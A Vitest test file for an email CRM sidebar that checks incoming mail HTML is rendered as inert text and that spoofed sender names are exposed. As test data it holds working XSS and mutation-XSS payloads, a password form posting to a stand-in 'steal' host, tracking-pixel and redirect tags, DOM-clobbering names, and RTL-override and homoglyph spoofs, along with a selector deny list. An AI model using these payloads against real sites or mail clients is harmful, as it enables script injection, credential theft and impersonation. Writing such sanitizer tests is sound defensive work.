// @vitest-environment happy-dom
import { cleanup, fireEvent, screen, waitFor } from '@testing-library/react';
import { afterEach, expect, test, vi } from 'vitest';
import {
  type LogInteractionArgs,
  logInteractionArgs,
} from '../../../shared/contracts/interactions.ts';
import { mail, person, threadOf } from '../people/testing/thread.ts';
import { answer, candidateOf, customer } from './testing/customers.ts';
import { renderSidebar, uuidOf, zhaoMin } from './testing/render-sidebar.tsx';

afterEach(() => {
  cleanup();
  vi.unstubAllGlobals();
});

const me = person(zhaoMin.email, zhaoMin.name);
const wang = person('wang.fang@acme-packaging.example', 'Wang Fang');
const acme = customer(10, 'Acme Packaging Co.');
const runs = 'globalThis.ran=1';
const words = 'Please send the quote.';

const forbidden =
  'script,iframe,object,embed,base,meta,link,style,picture,video,img,template,math,[onerror],[onload],[href^="javascript"],[action],[name=parentNode],[id=body],[style*="url("]';

/** Opens a mail that says `words` and brings these along, logs it, and finds nothing of it but text. */
async function expectTextOnly(...parts: readonly string[]): Promise<void> {
  const fetched = vi.fn();
  vi.stubGlobal('fetch', fetched);
  vi.stubGlobal('Image', fetched);
  const logged: LogInteractionArgs[] = [];
  renderSidebar({
    snapshot: threadOf({
      ...mail(wang, me),
      dateRaw: 'Thu, Nov 19, 2026, 9:10 AM',
      html: `<p>${words}</p>${parts.join('')}`,
    }),
    crm: {
      customerCard: async () => acme,
      customerTimeline: async () => [],
      matchPeople: answer([candidateOf(acme)]),
      logInteraction: async (args) => {
        logged.push(logInteractionArgs.parse(args));
        const undo_until = '2026-11-20T02:10:00Z';
        return { mail_id: uuidOf(80), follow_ups: [], reminder_id: null, undo_until };
      },
    },
  });
  // Styles of our own stand in the head before the mail is opened.
  const ours = new Set(document.querySelectorAll(forbidden));
  fireEvent.click(await screen.findByRole('button', { name: /^Log this mail/ }));
  await screen.findByText(new RegExp(words));
  for (const more of ['Show all', 'Show what was cut']) {
    const button = screen.queryByRole('button', { name: more });
    if (button !== null) fireEvent.click(button);
  }
  const brought = [...document.body.querySelectorAll(forbidden)].filter((one) => !ours.has(one));
  expect(brought.map(({ outerHTML }) => outerHTML)).toEqual([]);
  const [soon] = screen.getAllByRole('radio', { name: /9:00/ });
  if (soon === undefined) throw new Error('a next step is offered');
  fireEvent.click(soon);
  fireEvent.click(screen.getByRole('button', { name: /^Save/ }));
  await waitFor(() => expect(logged).toHaveLength(1));
  expect(logged[0]?.mail?.text).toContain(words);
  expect(logged[0]?.mail?.text).not.toMatch(/t\.example|ran=1/);
  expect(fetched).not.toHaveBeenCalled();
  expect(Reflect.get(globalThis, 'ran')).toBeUndefined();
}

test('H01 scripts, handlers and addresses that run', async () => {
  await expectTextOnly(
    `<script>${runs}</script><img src=x onerror="${runs}"><body onload="${runs}">`,
    `<a href="javascript:${runs}">a</a><a href="data:text/html,<script>${runs}</script>">b</a>`,
    `<a href="vbscript:${runs}">c</a><iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  );
});

test('H02 other namespaces, deep nesting and markup that changes when it is read twice', async () => {
  await expectTextOnly(
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${runs}&gt;">`,
    `<svg></p><style><a id="</style><img src=1 onerror=${runs}>"></svg>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${runs}></style>`,
    `<noscript><p title="</noscript><img src=x onerror=${runs}>"></noscript>`,
    `<template><img src=x onerror=${runs}></template>${'<svg><desc>'.repeat(300)}`,
  );
});

test('H03 styles that fetch, cover the page or bring others', async () => {
  await expectTextOnly(
    '<style>@import url(//t.example/a.css); p { background: url(https://t.example/b) }</style>',
    '<div style="position:fixed;inset:0;background:url(https://t.example/c)"></div>',
  );
});

test('H04 forms, bases, refreshes, frames and objects', async () => {
  await expectTextOnly(
    '<form action="https://t.example/steal"><input name="password"><button>Sign in</button></form>',
    '<base href="https://t.example/"><meta http-equiv="refresh" content="0;url=https://t.example/">',
    '<iframe src="https://t.example/"></iframe><object data="https://t.example/"></object>',
    '<link rel="stylesheet" href="https://t.example/d.css"><embed src="https://t.example/">',
  );
});

test('H05 pictures, attached and remote, and the one that tells that the mail was read', async () => {
  await expectTextOnly(
    '<img src="https://t.example/logo.png" alt=""><img src="cid:logo@acme" alt="">',
    '<img src="https://t.example/open.gif?id=7" width="1" height="1" alt="">',
    '<picture><source srcset="https://t.example/e.webp"></picture><video poster="https://t.example/f">',
  );
});

test('H06 names that hide what the document is asked for', async () => {
  await expectTextOnly(
    '<form id="body" name="body"><input name="parentNode"><input name="children"></form>',
    '<img name="getElementById"><img id="querySelector"><a id="root" name="cookie"></a>',
  );
});

const pretenders: readonly (readonly [string, string])[] = [
  ['another address', 'Chen Yu <chen.yu@harbour-tools.example>'],
  ['a direction that is turned', 'moc.elpmaxe@ssob \u202E'],
  ['letters that look alike', 'Zh\u0430o Min, h\u0430rbour-tools.ex\u0430mple'],
];
test.each(pretenders)(
  'H07 a name that pretends %s stands above the true address',
  async (_, name) => {
    renderSidebar({
      snapshot: threadOf(mail(person('attacker@evil.example', name), me)),
      crm: { matchPeople: answer([]) },
    });
    await screen.findByText('attacker@evil.example');
    expect(document.body.textContent).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    expect(await screen.findAllByText(/Not in Threadbook/)).not.toHaveLength(0);
  },
);
